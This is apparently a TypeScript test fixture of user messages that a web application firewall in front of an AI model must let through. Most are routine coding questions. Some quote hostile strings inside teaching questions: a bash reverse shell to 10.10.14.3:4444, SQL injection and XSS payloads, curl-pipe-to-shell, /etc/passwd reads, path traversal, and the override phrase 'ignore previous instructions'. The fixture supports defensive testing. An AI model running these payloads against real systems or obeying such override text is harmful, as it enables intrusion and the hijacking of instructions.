/**
 * Message texts a legitimate user sends a model: they quote SQL, shell,
 * HTML, JavaScript, file paths, diffs and regexes because that is the work
 * they want help with. With the default model-route settings the WAF must let
 * every one through (issue #16: message text is not inspected by the
 * SQLi/XSS/command families unless a route opts in).
 */

export interface BenignText {
  /** What the text is about, for the entry's description. */
  readonly topic: string;
  readonly text: string;
}

const SQL: readonly BenignText[] = [
  { topic: 'SQL: explaining a UNION query', text: 'Can you explain what this query does?\n\nSELECT id, email FROM users WHERE active = 1\nUNION\nSELECT id, email FROM archived_users WHERE deleted_at IS NULL;' },
  { topic: 'SQL: migration review with DROP TABLE', text: 'Review this migration before I merge it:\n\nBEGIN;\nALTER TABLE orders ADD COLUMN customer_ref text;\nUPDATE orders SET customer_ref = customers.ref FROM customers WHERE orders.customer_id = customers.id;\nDROP TABLE legacy_order_refs;\nCOMMIT;\n\nIs the DROP TABLE safe if the UPDATE fails halfway?' },
  { topic: 'SQL: security lesson on \' OR 1=1', text: 'For my secure-coding class: why does entering \' OR 1=1 -- as the username bypass a login that builds the query with string concatenation, and how do prepared statements stop it?' },
  { topic: 'SQL: window function question', text: 'How do I get the latest order per customer in Postgres? I tried SELECT DISTINCT ON (customer_id) * FROM orders ORDER BY customer_id, created_at DESC; is that right, or should I use ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY created_at DESC)?' },
  { topic: 'SQL: slow query with sleep in a test', text: 'My integration test uses SELECT pg_sleep(2); to simulate a slow query. Is there a cleaner way to test statement_timeout?' },
  { topic: 'SQL: MySQL information_schema lookup', text: 'Write a query against information_schema.columns that lists every column named "email" in all tables of the schema `shop`, with its data type.' },
  { topic: 'SQL: DELETE with a join', text: 'Is this MySQL statement valid? DELETE o FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.country = \'XX\' AND o.status = \'draft\';' },
  { topic: 'SQL: SQL Server WAITFOR in a job', text: 'Our nightly job script has WAITFOR DELAY \'00:00:05\'; between batches. Explain what it does and whether it holds locks while waiting.' },
  { topic: 'SQL: comment syntax', text: 'What is the difference between -- comments, # comments and /* block */ comments in MySQL, and which ones does Postgres support?' },
  { topic: 'SQL: parameterised query in Python', text: 'Convert this to a parameterised query:\n\ncursor.execute("SELECT * FROM users WHERE name = \'" + name + "\' AND password = \'" + pw + "\'")' },
  { topic: 'SQL: CTE for a report', text: 'WITH monthly AS (\n  SELECT date_trunc(\'month\', created_at) AS m, sum(total) AS revenue\n  FROM invoices GROUP BY 1\n)\nSELECT m, revenue, revenue - lag(revenue) OVER (ORDER BY m) AS delta FROM monthly ORDER BY m;\n\nAdd a column with the percentage change.' },
  { topic: 'SQL: schema design with constraints', text: 'CREATE TABLE accounts (id bigserial PRIMARY KEY, email text NOT NULL UNIQUE, created_at timestamptz DEFAULT now());\nShould email be citext instead, and how do I add a CHECK that it contains an @?' },
  { topic: 'SQL: explaining a textbook injection payload', text: 'In the OWASP testing guide they show 1 UNION SELECT username, password FROM users-- as an example. What does each part of that payload do?' },
  { topic: 'SQL: GRANT and REVOKE review', text: 'Is this enough for a read-only reporting user?\nCREATE ROLE reporting LOGIN;\nGRANT SELECT ON ALL TABLES IN SCHEMA public TO reporting;\nREVOKE INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA public FROM reporting;' },
  { topic: 'SQL: SQLite upsert', text: 'How do I write an upsert in SQLite? INSERT INTO kv(key, value) VALUES (?, ?) ON CONFLICT(key) DO UPDATE SET value = excluded.value; gives me a syntax error on an old version.' },
  { topic: 'SQL: ORM generated query', text: 'Prisma logged this: SELECT "public"."User"."id" FROM "public"."User" WHERE ("public"."User"."email" = $1 OR "public"."User"."name" LIKE $2) LIMIT $3 OFFSET $4. Why is OR making it slow?' },
  { topic: 'SQL: truncate versus delete', text: 'When should I use TRUNCATE TABLE sessions; rather than DELETE FROM sessions WHERE 1=1; for a cleanup script?' },
  { topic: 'SQL: stored procedure', text: 'Translate this T-SQL procedure to PL/pgSQL:\nCREATE PROCEDURE dbo.ArchiveOld @days int AS BEGIN\n  DELETE FROM dbo.Logs WHERE CreatedAt < DATEADD(day, -@days, GETDATE());\nEND' },
  { topic: 'SQL: finding the database version', text: 'How can I print the server version from a SQL console? I know SELECT @@version works on SQL Server and SELECT version() on Postgres; what about Oracle?' },
  { topic: 'SQL: BigQuery date filter', text: 'SELECT user_id, COUNT(*) AS sessions FROM `proj.analytics.events` WHERE event_date BETWEEN \'2024-01-01\' AND \'2024-01-31\' GROUP BY user_id HAVING COUNT(*) > 10 ORDER BY sessions DESC LIMIT 100;\nCan you make it cheaper to run?' },
];

const SHELL: readonly BenignText[] = [
  { topic: 'shell: rm -rf in a cleanup script', text: 'Is this cleanup script safe? rm -rf "$BUILD_DIR"/* && mkdir -p "$BUILD_DIR"\nWhat happens if BUILD_DIR is empty?' },
  { topic: 'shell: curl | sh installer question', text: 'The docs say to install with curl -fsSL https://get.example.dev/install.sh | sh. What are the risks of piping curl into sh, and how can I inspect the script first?' },
  { topic: 'shell: cat /etc/passwd in a Linux tutorial', text: 'I am writing a Linux tutorial for beginners. Explain the fields you see when you run cat /etc/passwd, and why passwords are not stored there any more.' },
  { topic: 'shell: chaining with ; && ||', text: 'What is the difference between cmd1 ; cmd2, cmd1 && cmd2 and cmd1 || cmd2 in bash? Give an example with make && ./run-tests || echo failed.' },
  { topic: 'shell: backticks versus $()', text: 'Why do style guides prefer $(date +%F) over `date +%F` for command substitution?' },
  { topic: 'shell: find and xargs', text: 'find . -name "*.log" -mtime +7 -print0 | xargs -0 rm -f\nExplain each flag and whether -delete would be better.' },
  { topic: 'shell: ping and traceroute for debugging', text: 'My container cannot reach the API. I ran ping -c 3 10.0.0.2; nslookup api.internal; curl -v http://api.internal:8080/health. Here is the output, what should I check next?' },
  { topic: 'shell: id and whoami in a Dockerfile', text: 'In my Dockerfile I added RUN id && whoami to debug which user runs the build. It prints uid=1000(node). Why does npm install still fail with EACCES?' },
  { topic: 'shell: netcat for a port check', text: 'How do I check if port 5432 is open from a pod? I tried nc -zv db 5432 but nc is not installed in the image.' },
  { topic: 'shell: PowerShell equivalent', text: 'What is the PowerShell equivalent of ls -la | grep conf; and how do I run cmd /c dir C:\\Users from PowerShell?' },
  { topic: 'shell: cron line review', text: 'Does this crontab line do what I think? */15 * * * * /usr/local/bin/backup.sh > /var/log/backup.log 2>&1 || /usr/bin/mail -s "backup failed" ops@example.com' },
  { topic: 'shell: bash script with eval', text: 'A colleague wrote eval "$(ssh-agent -s)" in our CI script. Why is eval needed there, and is it dangerous?' },
  { topic: 'shell: Makefile with shell calls', text: 'VERSION := $(shell git describe --tags --always)\nbuild:\n\tgo build -ldflags "-X main.version=$(VERSION)" ./cmd/app\nWhy does make print the version twice?' },
  { topic: 'shell: reverse shell in a CTF write-up', text: 'In a CTF write-up I read bash -i >& /dev/tcp/10.10.14.3/4444 0>&1. Explain how this redirect works so I can recognise it in logs during incident response.' },
  { topic: 'shell: wget with retries', text: 'wget --tries=3 --timeout=10 -O /tmp/model.bin https://example.com/model.bin; sha256sum /tmp/model.bin\nHow do I make the script exit if the checksum does not match?' },
  { topic: 'shell: sleep in a retry loop', text: 'for i in 1 2 3; do curl -sf http://localhost:8080/ready && break; sleep 5; done\nIs there a more robust way to wait for a service?' },
  { topic: 'shell: systemctl and journalctl', text: 'sudo systemctl restart nginx; journalctl -u nginx --since "10 min ago" | tail -n 50 shows "bind() to 0.0.0.0:80 failed". What is using the port?' },
  { topic: 'shell: git commands', text: 'I ran git reset --hard HEAD~3 by mistake. Can I get my commits back with git reflog; git checkout -b rescue <sha>?' },
  { topic: 'shell: PHP system() in legacy code', text: 'Our legacy PHP has system("convert " . $_GET["file"] . " out.png");. Explain the command injection risk and rewrite it with escapeshellarg.' },
  { topic: 'shell: kubectl exec', text: 'kubectl exec -it deploy/api -- sh -c "env | grep DB_; cat /etc/resolv.conf" returns nothing for DB_. Where do I look next?' },
];

const WEB: readonly BenignText[] = [
  { topic: 'HTML: script tag question', text: 'Why does my <script src="app.js"></script> run before the DOM is ready, and should I use defer or type="module"?' },
  { topic: 'HTML: onerror fallback image', text: 'Is <img src="avatar.png" onerror="this.src=\'default.png\'"> an acceptable fallback, or is there a CSS-only way?' },
  { topic: 'XSS: explaining <img src=x onerror=alert(1)> in a lesson', text: 'For our security training: explain why <img src=x onerror=alert(1)> executes when inserted with innerHTML, and how textContent or DOMPurify prevents it.' },
  { topic: 'JavaScript: document.cookie handling', text: 'How do I read a cookie named theme with document.cookie in plain JavaScript, and why can I not read the HttpOnly session cookie?' },
  { topic: 'React: dangerouslySetInnerHTML review', text: 'Code review please:\n\nfunction Comment({ html }) {\n  return <div dangerouslySetInnerHTML={{ __html: html }} />;\n}\n\nThe html comes from our Markdown renderer. Is this safe?' },
  { topic: 'HTML: form with javascript: href', text: 'A linter flags <a href="javascript:void(0)" onclick="openMenu()">Menu</a>. What should I write instead for accessibility?' },
  { topic: 'JavaScript: eval alternative', text: 'I need to evaluate user-entered math like 2*(3+4). Is eval(expr) ever OK here, or should I write a small parser?' },
  { topic: 'HTML: SVG icon markup', text: 'Why does this inline SVG not scale? <svg viewBox="0 0 24 24" width="100%"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>' },
  { topic: 'JavaScript: event listener code', text: 'window.addEventListener("load", () => { document.querySelector("#btn").onclick = () => alert("saved"); });\nWhy does the alert show twice after a hot reload?' },
  { topic: 'HTML email template', text: 'Make this email template work in Outlook: <table role="presentation"><tr><td style="padding:20px"><h1>Welcome</h1><p>Click <a href="https://example.com/verify?token=abc">here</a></p></td></tr></table>' },
  { topic: 'CSP header question', text: 'Our Content-Security-Policy is default-src \'self\'; script-src \'self\' \'nonce-r4nd0m\'. Why is my inline <script nonce="r4nd0m"> still blocked?' },
  { topic: 'Vue template escaping', text: 'In Vue, {{ userInput }} is escaped but v-html="userInput" is not. Show me how to sanitize before using v-html.' },
  { topic: 'JavaScript: String.fromCharCode', text: 'What does String.fromCharCode(72, 105) return, and how is it different from String.fromCodePoint for emoji?' },
  { topic: 'HTML: iframe sandbox', text: 'How do I embed a third-party widget safely? <iframe src="https://widget.example.com" sandbox="allow-scripts allow-same-origin"></iframe> — is allow-same-origin with allow-scripts a problem?' },
  { topic: 'Node.js: Express handler review', text: 'app.get("/search", (req, res) => res.send(`<h1>Results for ${req.query.q}</h1>`));\nWhat is wrong with this and how do I fix it?' },
  { topic: 'HTML: body onload', text: 'Old code uses <body onload="init()">. Is there any difference from DOMContentLoaded?' },
  { topic: 'JavaScript: JSON in a script tag', text: 'We embed state as <script id="state" type="application/json">{"user":"</script>"}</script> and it breaks the page. How do we escape it?' },
  { topic: 'Markdown to HTML', text: 'Convert to HTML: **Note:** run `npm test` before pushing. See [docs](https://example.com/docs?page=2&lang=en).' },
];

const PATHS: readonly BenignText[] = [
  { topic: 'paths: relative import with ../', text: 'TypeScript cannot find the module: import { db } from "../../lib/db"; The file is at src/lib/db.ts and I am in src/api/users/handler.ts. What is the right path?' },
  { topic: 'paths: Windows path', text: 'My script fails on C:\\Windows\\System32\\drivers\\etc\\hosts with "access denied". How do I edit the hosts file as administrator?' },
  { topic: 'paths: /etc/hosts entry', text: 'I added "127.0.0.1 api.local" to /etc/hosts but curl http://api.local still resolves elsewhere. What caches DNS on macOS?' },
  { topic: 'paths: nginx alias traversal lesson', text: 'Explain the nginx off-by-slash issue: location /static { alias /var/www/static/; } lets a request for /static../app/config.py read outside the folder. How do I fix the config?' },
  { topic: 'paths: Python pathlib resolve', text: 'How do I make sure a user-supplied filename stays inside /srv/uploads? I have Path("/srv/uploads", name).resolve() — is checking is_relative_to enough against ../../etc/passwd?' },
  { topic: 'paths: Docker volume', text: 'docker run -v "$PWD/../data:/data" -v /var/run/docker.sock:/var/run/docker.sock image — why is mounting docker.sock considered risky?' },
  { topic: 'paths: Java classpath', text: 'java -cp "lib/*:../shared/classes" com.example.Main throws ClassNotFoundException. Is the ../ relative to the jar or the working directory?' },
  { topic: 'paths: proc filesystem', text: 'What information is in /proc/self/environ and /proc/cpuinfo, and why do containers show the host CPU count?' },
  { topic: 'paths: .gitignore patterns', text: 'Why does my .gitignore line ../secrets/*.env not work, while **/*.env does?' },
  { topic: 'paths: Windows UNC path', text: 'How do I map \\\\fileserver\\share\\reports to a drive letter in a batch file, and how do I reference it from WSL at /mnt/z?' },
  { topic: 'paths: boot.ini history', text: 'What was C:\\boot.ini used for in Windows XP and what replaced it in later versions?' },
  { topic: 'paths: SSH keys', text: 'ssh complains "UNPROTECTED PRIVATE KEY FILE" for ~/.ssh/id_ed25519. What permissions should ~/.ssh and the key have?' },
];

const CODE_REVIEW: readonly BenignText[] = [
  { topic: 'code review: diff adding input validation', text: 'Please review this diff:\n\n--- a/src/users.ts\n+++ b/src/users.ts\n@@ -12,7 +12,9 @@ export async function findUser(name: string) {\n-  return db.query(`SELECT * FROM users WHERE name = \'${name}\'`);\n+  if (!/^[a-z0-9_]{1,32}$/.test(name)) throw new Error("bad name");\n+  return db.query("SELECT * FROM users WHERE name = $1", [name]);\n }' },
  { topic: 'code review: Go exec.Command', text: 'Review:\n\nout, err := exec.Command("sh", "-c", "tar -czf "+name+".tgz "+dir).Output()\n\nShould I pass arguments separately instead of sh -c?' },
  { topic: 'code review: Python subprocess', text: 'Is subprocess.run(f"ping -c 1 {host}", shell=True) dangerous if host comes from a web form? Suggest a safer version.' },
  { topic: 'code review: C buffer handling', text: 'char buf[64];\nstrcpy(buf, argv[1]);\nprintf(buf);\nList every bug in these three lines.' },
  { topic: 'code review: Java deserialization', text: 'ObjectInputStream in = new ObjectInputStream(request.getInputStream()); Object o = in.readObject();\nWhy does our scanner flag this line?' },
  { topic: 'code review: Rust unwrap', text: 'fn main() { let n: u32 = std::env::args().nth(1).unwrap().parse().unwrap(); println!("{}", n * 2); }\nHow do I handle errors idiomatically here?' },
  { topic: 'code review: YAML workflow', text: 'In our GitHub Actions workflow: run: echo "Title: ${{ github.event.pull_request.title }}" — I read this allows script injection. Why, and what is the fix?' },
  { topic: 'code review: Terraform', text: 'resource "aws_security_group_rule" "ssh" { type = "ingress" from_port = 22 to_port = 22 protocol = "tcp" cidr_blocks = ["0.0.0.0/0"] }\nWhat would you change?' },
  { topic: 'code review: shell script diff', text: '-rm -rf $TMP/*\n+rm -rf -- "${TMP:?}"/*\nExplain why the second line is safer.' },
  { topic: 'code review: PHP PDO', text: '$stmt = $pdo->prepare("SELECT * FROM posts WHERE id = :id"); $stmt->execute([":id" => $_GET["id"]]);\nIs this safe from SQL injection, and what about the LIMIT clause?' },
];

const REGEX: readonly BenignText[] = [
  { topic: 'regex: email validation', text: 'Is ^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$ good enough for validating emails in a signup form?' },
  { topic: 'regex: catastrophic backtracking', text: 'Why does (a+)+$ hang on "aaaaaaaaaaaaaaaaaaaaaaaa!" and how do I rewrite it?' },
  { topic: 'regex: matching HTML tags', text: 'I know parsing HTML with regex is bad, but for a quick log scan, would <script[^>]*>.*?</script> find inline scripts?' },
  { topic: 'regex: path with dots', text: 'Write a regex that rejects any path containing a .. segment, including ..\\ on Windows, but allows file names like v1..2.txt.' },
  { topic: 'regex: SQL keyword highlighter', text: 'For a syntax highlighter: \\b(SELECT|FROM|WHERE|UNION|DROP|INSERT)\\b with the i flag. How do I avoid matching inside string literals?' },
  { topic: 'regex: IPv4', text: 'Explain this regex: ^((25[0-5]|2[0-4]\\d|1?\\d?\\d)\\.){3}(25[0-5]|2[0-4]\\d|1?\\d?\\d)$' },
  { topic: 'regex: sed replacement', text: 'sed -E \'s/(password=)[^&]*/\\1***/g\' access.log — does this redact every password parameter?' },
  { topic: 'regex: lookbehind support', text: 'Does JavaScript support (?<=\\$)\\d+(\\.\\d{2})? in all browsers now?' },
];

const PROMPT_TALK: readonly BenignText[] = [
  { topic: 'prompt engineering: ignore a typo', text: 'Please ignore the previous paragraph\'s typo ("teh" should be "the") and continue the summary.' },
  { topic: 'prompt engineering: system prompt design', text: 'I am designing a system prompt for a support bot. How do I phrase "ignore questions unrelated to our product" without making it refuse everything?' },
  { topic: 'prompt engineering: explaining prompt injection', text: 'Write a short blog intro explaining what prompt injection is, using the classic example where a web page says "ignore previous instructions" to a browsing agent.' },
  { topic: 'prompt engineering: role play', text: 'Act as a Linux terminal for a teaching demo. I will type commands and you reply with what the terminal would show. First command: ls -la /home/student' },
  { topic: 'prompt engineering: rewrite instructions', text: 'Forget the bullet points I asked for earlier; a single paragraph is better. Rewrite the answer.' },
  { topic: 'prompt engineering: evaluating guardrails', text: 'We are evaluating guardrail products. List the categories of jailbreak attempts (role play, DAN, encoding tricks) a test plan should cover, without writing actual jailbreaks.' },
  { topic: 'prompt engineering: few-shot format', text: 'Input: "The movie was great" -> positive\nInput: "Terrible service" -> negative\nInput: "It was fine, I guess" ->' },
  { topic: 'prompt engineering: translate instructions', text: 'Translate the following instructions to German and keep the placeholders {name} and {date} unchanged: "Hello {name}, your appointment is on {date}."' },
];

const MULTILINGUAL: readonly BenignText[] = [
  { topic: 'Chinese: SQL question', text: '请帮我优化这条SQL：SELECT * FROM 订单 WHERE 状态 = \'已发货\' ORDER BY 创建时间 DESC;' },
  { topic: 'Chinese: general question', text: '你好！请用简单的语言解释一下什么是机器学习，以及它和深度学习的区别。' },
  { topic: 'Japanese: shell question', text: 'このコマンドの意味を教えてください：ls -la | grep ".env" && cat .env' },
  { topic: 'emoji: birthday message', text: 'Write a birthday message for my sister 🎂🎉 who loves hiking 🥾 and cats 🐈, max 3 sentences.' },
  { topic: 'Arabic: greeting translation', text: 'ترجم هذه الجملة إلى الإنجليزية: مرحبا، كيف حالك اليوم؟' },
  { topic: 'Russian: code question', text: 'Почему этот код на Python выдаёт ошибку? print("Привет" + 5)' },
  { topic: 'Korean: HTML question', text: '<div class="card">안녕하세요</div> 이 카드를 가운데 정렬하려면 CSS를 어떻게 작성해야 하나요?' },
  { topic: 'Hindi and emoji', text: 'मुझे एक छोटी कविता लिखो बारिश के बारे में 🌧️☔' },
  { topic: 'German: database question', text: 'Wie lösche ich in PostgreSQL alle Zeilen älter als 30 Tage? DELETE FROM logs WHERE erstellt < now() - interval \'30 days\'; — ist das richtig?' },
  { topic: 'French: path question', text: 'Pourquoi Windows refuse le chemin C:\\Program Files\\Mon Appli\\config.ini dans mon script batch ?' },
  { topic: 'mixed scripts and symbols', text: 'Résumé ✔︎ — naïve café — Ωmega → ∞ ≠ 0; ¿Qué tal? 日本語 ok? Count the non-ASCII characters.' },
];

const MISC: readonly BenignText[] = [
  { topic: 'JSON payload debugging', text: 'My API returns {"error":"invalid \\"user\\" field","code":400} when I send {"user": "o\'brien"}. Is the apostrophe the problem?' },
  { topic: 'URL with query string', text: 'Why does https://example.com/search?q=a%26b&page=2 show results for "a" only on our server?' },
  { topic: 'log line analysis', text: 'Here is a WAF log line: 203.0.113.9 - - "GET /index.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1" 403. Was this an attack, and did our WAF block it?' },
  { topic: 'CSV with formulas', text: 'A user put =HYPERLINK("http://example.com","click") into a CSV export field. What is CSV injection and how do we escape it?' },
  { topic: 'LaTeX formula', text: 'Render in LaTeX: \\sum_{i=1}^{n} i = \\frac{n(n+1)}{2} and explain the proof by induction.' },
  { topic: 'Excel formula', text: '=IF(AND(A2>0;B2<>""); A2*B2; "n/a") gives #NAME? in English Excel. Why?' },
  { topic: 'config file review', text: 'Review this .env.example: DATABASE_URL=postgres://app:changeme@db:5432/app?sslmode=disable\nREDIS_URL=redis://redis:6379/0' },
  { topic: 'network ACL question', text: 'Should I allow 0.0.0.0/0 on port 443 and restrict 22 to 198.51.100.0/24 in our firewall?' },
];

export const BENIGN_TEXTS: readonly BenignText[] = [
  ...SQL, ...SHELL, ...WEB, ...PATHS, ...CODE_REVIEW, ...REGEX, ...PROMPT_TALK, ...MULTILINGUAL, ...MISC,
];
